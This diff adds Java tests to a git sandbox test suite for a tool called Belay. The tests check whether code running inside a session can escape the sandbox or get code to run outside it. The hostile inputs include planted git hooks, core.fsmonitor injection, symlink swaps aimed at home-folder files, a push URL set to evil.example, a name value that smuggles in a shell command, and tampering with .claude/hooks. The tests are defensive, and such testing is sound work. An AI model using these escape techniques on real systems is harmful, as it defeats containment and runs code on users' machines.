@@ -289,4 +289,120 @@ class GitInSandboxTest {
                     .doesNotContain("secret").doesNotContain("config");
         }
     }
+
+    // --- found by attackers ---
+
+    /// The next session took it for the stand-in of a new repository, and Belay emptied what a link led to.
+    @Test
+    void aFolderNamedLikeTheStandInChangesNothing() throws Exception {
+        repository();
+        outside("mkdir -p tools ~/precious/d; echo 1 > ~/precious/x; git config core.hooksPath tools");
+        inside("mkdir .git/belay-new");
+        String said = inside(evil() + "cp evil tools/post-checkout; mv .git/belay-new .git/old; ln -s "
+                + folder.resolve("home/precious") + " .git/belay-new");
+        assertThat(said).contains("Read-only file system");
+        inside("true");
+        assertThat(folder.resolve("home/precious/x")).exists();
+        nothingRuns();
+    }
+
+    /// One session swaps the stand-in while Belay ends another one.
+    @Test
+    void whatALinkInTheStandInLeadsToIsNotEmptied() throws Exception {
+        outside("mkdir -p ~/precious/d; echo 1 > ~/precious/x");
+        Path precious = folder.resolve("home/precious");
+        Session other = sessions().open(SessionSpec.of("cat"));
+        outside("mv .git/belay-new .git/old; ln -s " + precious + " .git/belay-new; rm -rf .git/old");
+        other.close();
+        assertThat(precious.resolve("x")).exists();
+        outside("rm -rf .git");
+    }
+
+    @Test
+    void settingsOfRemotesAndBranchesThatExistAreNotTakenOver() throws Exception {
+        repository();
+        inside("git init -q --bare node_modules/x; git config branch.main.pushRemote node_modules/x; git config"
+                + " branch.main.remote node_modules/x; git config remote.origin.pushurl https://evil.example/x;"
+                + " git config"
+                + " branch.new.remote node_modules/x; git config branch.new.pushRemote x; git config remote.n.pushurl"
+                + " https://evil.example/x; git config user.name 'a;touch x;b'; git config remote.a/b.url"
+                + " https://h.example/x");
+        assertThat(outside("git config --local --list")).doesNotContain("node_modules", "pushurl", "pushremote",
+                "touch",
+                "a/b");
+    }
+
+    /// Names of submodules and worktrees come from files that sessions write.
+    @Test
+    void whatTheIndexNamesOpensNoProtectedPath() throws Exception {
+        repository();
+        outside("mkdir -p .claude/hooks; echo ok > .claude/hooks/h.sh; mkdir -p .git/hooks/lib; echo ok >"
+                + " .git/hooks/lib/l");
+        inside("git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),.claude/hooks; mkdir -p"
+                + " .git/worktrees/e; echo $PWD/.claude/hooks/q/.git > .git/worktrees/e/gitdir");
+        inside("echo evil > .claude/hooks/h.sh; echo evil > .git/hooks/lib/l; mkdir .claude/hooks/q");
+        assertThat(workspace.resolve(".claude/hooks/h.sh")).hasContent("ok");
+        assertThat(workspace.resolve(".git/hooks/lib/l")).hasContent("ok");
+        assertThat(workspace.resolve(".claude/hooks/q")).doesNotExist();
+    }
+
+    @Test
+    void submodulesAndWorktreesAreRecognisedWhateverASessionMovesAway() throws Exception {
+        repository();
+        outside("git init -q ~/library; cd ~/library; echo 1 > l; git add l; git commit -qm library");
+        outside("git -c protocol.file.allow=always submodule add -q --name a/b/c/d/e/f/g ~/library deep; git -c"
+                + " protocol.file.allow=always submodule add -q ~/library lib; git commit -qm sub; git config"
+                + " extensions.worktreeConfig true; git worktree add -q tree other");
+        inside("mv .git/modules/lib/HEAD .git/modules/lib/H");
+        String said = inside(evil() + "for f in .git/modules/lib/config .git/modules/a/b/c/d/e/f/g/config"
+                + " .git/worktrees/tree/config.worktree; do printf '[core]\\n\\tfsmonitor = '$EVIL'\\n' >> $f; done;"
+                + " mv .git/modules/lib/H .git/modules/lib/HEAD");
+        assertThat(said.split("Read-only file system", -1)).hasSize(4);
+        outside("git -C tree status; git -C lib status; git -C deep status");
+        nothingRuns();
+    }
+
+    @Test
+    void hooksAndSettingsThatOtherSettingsNameAreProtected() throws Exception {
+        repository();
+        outside("mkdir -p tools hooks2 shared; echo '[core]' > tools/cfg; echo '\thooksPath = hooks2' >>"
+                + " tools/cfg; echo"
+                + " '[include]' >> tools/cfg; echo '\tpath = more' >> tools/cfg; : > tools/more; git config"
+                + " include.path"
+                + " ../tools/cfg; git config --global core.hooksPath hooks3; mkdir hooks3; printf '#!/bin/sh\\n' >"
+                + " shared/pre-commit; chmod 755 shared/pre-commit; ln -s ../../shared/pre-commit"
+                + " .git/hooks/pre-commit");
+        String said = inside(evil() + "cp evil hooks2/pre-commit; echo '[core] fsmonitor = '$EVIL >>"
+                + " tools/more; cp evil"
+                + " hooks3/pre-commit; cat evil > shared/pre-commit");
+        assertThat(said.split("Read-only file system", -1).length).isGreaterThanOrEqualTo(3);
+        nothingRuns();
+    }
+
+    /// Git outside would write through them.
+    @Test
+    void linksThatASessionPutsIntoTheRepositoryAreRemovedAndListed() throws Exception {
+        repository();
+        outside("echo mine > ~/.profile");
+        Session session = sessions().open(SessionSpec.of("/bin/sh", "-c", "rm -f .git/logs/HEAD; ln -s "
+                + folder.resolve("home/.profile") + " .git/logs/HEAD; ln -s " + folder.resolve("home/.profile")
+                + " .git/COMMIT_EDITMSG2; ln -sf " + folder.resolve("home/.profile") + ""
+                + " .git/COMMIT_EDITMSG").pipe());
+        assertThat(session.awaitExit(Rig.PATIENCE)).isPresent();
+        session.close();
+        assertThat(Objects.requireNonNull(session.snapshot().guard()).changed())
+                .contains(".git/logs/HEAD", ".git/COMMIT_EDITMSG");
+        nothingRuns();
+        assertThat(folder.resolve("home/.profile")).hasContent("mine");
+    }
+
+    /// A mount goes when somebody outside replaces the file below it. Nothing prevents that; it is told.
+    @Test
+    void aProtectedFileThatSomebodyReplacesMeanwhileIsListed() throws Exception {
+        repository();
+        Session session = sessions().open(SessionSpec.of("cat"));
+        outside("git config some.key value");
+        session.close();
+        assertThat(Objects.requireNonNull(session.snapshot().guard()).changed()).contains(".git/config");
+    }
 }
